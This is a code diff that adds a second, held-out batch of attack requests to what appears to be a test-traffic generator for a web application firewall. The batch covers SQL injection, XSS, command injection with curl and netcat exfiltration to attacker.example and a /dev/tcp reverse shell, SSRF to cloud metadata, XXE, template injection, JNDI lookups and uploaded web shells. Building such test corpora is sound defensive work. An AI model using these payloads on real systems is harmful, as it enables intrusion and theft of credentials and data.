@@ -847,6 +847,183 @@ def protocol():
     ]
 
 
+# ------------------------------------------------------------------ batch 2
+# Written after the engine had been tuned on batch 1 and measured on these
+# before they were committed (docs/PERFORMANCE.md, "WAF inspection"): a
+# held-out check of how the engine does on attacks it was not tuned on.
+def sqli2():
+    return [
+        Q("/api/goods", "cid", "1 and (select count(*) from information_schema.columns A, "
+          "information_schema.columns B)"),
+        Q("/news", "id", "1' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x "
+          "from information_schema.tables group by x)a)-- "),
+        Q("/q", "name", "admin' and length(password)>8-- "),
+        Q("/q", "id", "1;select case when substring(current_user,1,1)='p' then pg_sleep(3) else pg_sleep(0) end--"),
+        Q("/q", "id", "1 and 1=dbms_utility.sqlid_to_sqlhash((select banner from v$version where rownum=1))"),
+        F("/account/login", "email", "test@example.com' AND 1=(SELECT 1 FROM users WHERE email LIKE '%admin%')#"),
+        J("/api/v2/reports", {"groupBy": "region, (select password from admins limit 1)", "metric": "gmv"}),
+        Q("/list", "limit", "10 PROCEDURE ANALYSE()"),
+        Q("/list", "offset", "0 union all select null,null,concat(user,0x3a,authentication_string) from mysql.user"),
+        C("/", "pref=1'+AND+ExtractValue(0,CONCAT(0x5c,(SELECT+@@hostname)))--+; sid=77aa"),
+        H("/api/v1/items", "X-Tenant", "acme' UNION SELECT api_key FROM tenants--"),
+        P("/api/v1/users/5%27%20AND%20%27a%27%3D%27a"),
+        M("/apply", [("position", "dev"), ("years", "3 or 1=1 order by 5--")]),
+        Q("/q", "id", "1'; copy (select '') to program 'id'--"),
+        Q("/q", "q", "x' UNION SELECT NULL, LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), "
+          "'.attacker.example\\\\a'))-- "),
+        Q("/q", "id", "1' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS INT)--"),
+    ]
+
+
+def xss2():
+    return [
+        Q("/s", "q", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+          "<image href='1' onerror='alert(1)' /></svg>#x\" />"),
+        Q("/s", "q", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"),
+        Q("/s", "q", "<video src=_ onloadstart=\"alert(1)\">"),
+        Q("/s", "q", "<body onhashchange=alert(1)><a href=#x>click</a>"),
+        F("/profile", "website", "https://example.com\" onmouseover=\"alert(document.cookie)"),
+        Q("/s", "q", "<script>import('https://attacker.example/x.mjs')</script>"),
+        Q("/s", "q", "';window.onerror=alert;throw 1;//"),
+        Q("/s", "q", "<img src=x onerror=eval(location.hash.slice(1))>"),
+        J("/api/v1/notes", {"title": "hi", "content": "<p onpointerenter=alert(1)>move here</p>"}),
+        RQ("/s", "q=%3Ca%20href%3D%22%01javascript:alert(1)%22%3Ex%3C/a%3E"),
+        Q("/s", "q", "<svg onload=alert(1)//", e=dbl),
+        Q("/s", "q", "<input type=image src=x onerror=alert(1)>"),
+        Q("/redirect", "next", "jAvAsCrIpT:alert(document.domain)"),
+        M("/forum/post", [("subject", "hello"), ("body", "nice<details ontoggle=fetch('//attacker.example/'+"
+                                                         "document.cookie) open>")]),
+    ]
+
+
+def cmdi2():
+    return [
+        Q("/api/thumb", "size", "100x100; curl -d @/etc/passwd http://attacker.example/"),
+        F("/admin/backup", "filename", "db.sql; nc 203.0.113.5 9001 < /etc/shadow"),
+        Q("/tools/git", "repo", "https://github.com/x/y.git --upload-pack='touch /tmp/pwn'"),
+        Q("/tools/ping", "host", "127.0.0.1 `wget -q -O- attacker.example/x.sh|sh`"),
+        J("/api/v1/jobs", {"cron": "* * * * *", "command": "bash -c 'sh -i >& /dev/tcp/203.0.113.5/443 0>&1'"}),
+        F("/win/exec", "file", "report.docx & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdA"),
+        Q("/tools/ping", "host", "127.0.0.1\nsh -c 'id'"),
+        Q("/tools/ping", "host", "$(printf 'Y2F0IC9ldGMvcGFzc3dk'|base64 -d|sh)"),
+        Q("/img", "f", "x.jpg|/usr/bin/env python3 -c 'import os;os.system(\"id\")'"),
+    ]
+
+
+def lfi2():
+    return [
+        RQ("/read", "f=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
+        Q("/read", "f", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+        Q("/read", "f", "../../.env"),
+        Q("/read", "f", "../../../../home/ubuntu/.bash_history"),
+        P("/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
+        J("/api/v1/templates/render", {"name": "/proc/1/environ"}),
+        Q("/index.php", "p", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"),
+        Q("/image", "path", "..././..././..././etc/passwd"),
+    ]
+
+
+def rfi_ssrf2():
+    return [
+        Q("/fetch", "url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
+        J("/api/v1/import", {"source_url": "http://localhost:9200/_search?q=*"}),
+        Q("/pdf", "url", "http://127.0.0.1:10250/pods"),
+        Q("/fetch", "url", "http://0/"),
+        Q("/img", "src", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
+        Q("/index.php", "inc", "hTtP://attacker.example/sh.txt?"),
+        Q("/fetch", "url", "http://metadata.tencentyun.com/latest/meta-data/"),
+        M("/profile/import", [("type", "vcard"), ("url", "http://127.0.0.1:8500/v1/kv/?recurse")]),
+    ]
+
+
+def xxe2():
+    pre = '<?xml version="1.0"?>\n'
+    return [
+        XML("/api/xml/po", pre + "<!DOCTYPE po [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><po><n>&x;</n></po>"),
+        XML("/api/xml/po", pre + '<!DOCTYPE data SYSTEM "http://attacker.example/ext.dtd"><data>1</data>'),
+        XML("/api/xml/po", pre + '<!DOCTYPE d [<!ENTITY % start "<![CDATA["><!ENTITY % file SYSTEM '
+            '"file:///etc/fstab"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://attacker.example/join.dtd">'
+            '%dtd;]><d>&all;</d>'),
+        J("/api/v1/soap-proxy", {"envelope": pre + '<!DOCTYPE s [<!ENTITY % x SYSTEM "http://attacker.example/s.dtd">'
+                                 '%x;]><s/>'}),
+        M("/tracks/upload", [("name", "morning run"), ("gpx", pre + '<!DOCTYPE gpx [<!ENTITY t SYSTEM '
+                              '"file:///etc/hostname">]><gpx version="1.1"><trk><name>&t;</name></trk></gpx>',
+                              "run.gpx", "application/gpx+xml")]),
+        XML("/pay/notify", '<!DOCTYPE xml [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml><appid>&a;</appid></xml>',
+            ctype="text/xml"),
+    ]
+
+
+def ssti2():
+    return [
+        Q("/hello", "name", "{{namespace.__init__.__globals__.os.popen('id').read()}}"),
+        Q("/hello", "name", "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}"),
+        Q("/hello", "name", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null)."
+          "exec(\"id\")}"),
+        Q("/hello", "name", "{{ joiner.__init__.__globals__.os.system('id') }}"),
+        F("/mail/preview", "tpl", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"),
+        H("/", "Referer", "${jndi:ldaps://attacker.example:636/x}"),
+        J("/api/v1/greet", {"msg": "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"}),
+    ]
+
+
+def webshell2():
+    shells = [
+        ("thumb.php", "image/png", "<?php $x=str_rot13('flfgrz');$x($_GET['q']);?>"),
+        ("inc.php", "text/plain", "<?php @include($_FILES['f']['tmp_name']); ?>"),
+        ("status.jsp", "text/plain", "<%@page import=\"java.lang.reflect.*\"%><% Class c=Class.forName("
+         "\"java.lang.Runtime\"); Method m=c.getMethod(\"exec\",String.class); m.invoke(c.getMethod(\"getRuntime\")"
+         ".invoke(null),request.getParameter(\"x\")); %>"),
+        ("help.aspx", "text/plain", "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Diagnostics\"%>"
+         "<script runat=\"server\">void Page_Load(object s, EventArgs e){Process p=new Process();p.StartInfo."
+         "FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c \"+Request.QueryString[\"c\"];p.StartInfo."
+         "UseShellExecute=false;p.StartInfo.RedirectStandardOutput=true;p.Start();Response.Write(p."
+         "StandardOutput.ReadToEnd());}</script>"),
+        ("avatar.php.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e1Exif<?php echo passthru($_GET['c']); ?>"),
+        ("x.py", "text/x-python", "#!/usr/bin/env python3\nimport os, cgi\nprint('Content-Type: text/plain\\n')\n"
+         "os.system(cgi.FieldStorage().getvalue('c'))\n"),
+    ]
+    return [M("/upload", [("name", f), ("file", body, f, ctype)],
+              boundary="----WebKitFormBoundaryB2%014d" % (i * 104729)) for i, (f, ctype, body) in enumerate(shells)]
+
+
+def scanner2():
+    return [
+        H("/login", "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)", query="user=a"),
+        H("/", "User-Agent", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
+        H("/", "User-Agent", "Mozilla/5.0 SF/2.10b"),
+        H("/", "User-Agent", "Havij"),
+        H("/", "User-Agent", "Vega/1.0"),
+        P("/.git/logs/HEAD"),
+        P("/config/database.yml"),
+        P("/wp-content/debug.log"),
+        P("/_profiler/phpinfo"),
+        P("/.vscode/sftp.json"),
+    ]
+
+
+def protocol2():
+    def with_headers(method, path, extra, body=""):
+        return req(method, path, "", headers(ua=ua(), extra=extra), body)
+
+    return [
+        with_headers("GET", "/", {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA",
+                                  "Connection": "Upgrade, HTTP2-Settings"}),
+        with_headers("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded; charset=ibm037",
+                                        "Content-Length": "13"}, "\u00a4\u00a2\u0085\u0099~\u0081P\u0097\u0081"
+                     "\u00a2\u00a2~\u0082"),
+        with_headers("POST", "/api", {"Content-Length": "+12"}, "hello world!"),
+        with_headers("POST", "/api", {"Content-Length": "1e3"}, "x"),
+        with_headers("GET", "/", {"X-A\u0001b": "1"}),
+        with_headers("POST", "/api", {"Transfer-Encoding": "identity, chunked", "Content-Length": "5"},
+                     "0\r\n\r\n"),
+    ]
+
+
+BATCH2 = {"sqli": sqli2, "xss": xss2, "cmdi": cmdi2, "lfi": lfi2, "rfi_ssrf": rfi_ssrf2, "xxe": xxe2,
+          "ssti": ssti2, "webshell": webshell2, "scanner": scanner2, "protocol": protocol2}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -854,8 +1031,12 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    for name, fn in CATEGORIES:
-        reqs = fn()
+    # Batch 1 first, for all files, then batch 2: each batch's User-Agent
+    # rotation stays what it was when it was measured.
+    first = [(name, fn()) for name, fn in CATEGORIES]
+    for name, reqs in first:
+        reqs += BATCH2[name]()
+    for name, reqs in first:
         seen = set()
         for r in reqs:
             key = json.dumps(r, sort_keys=True)
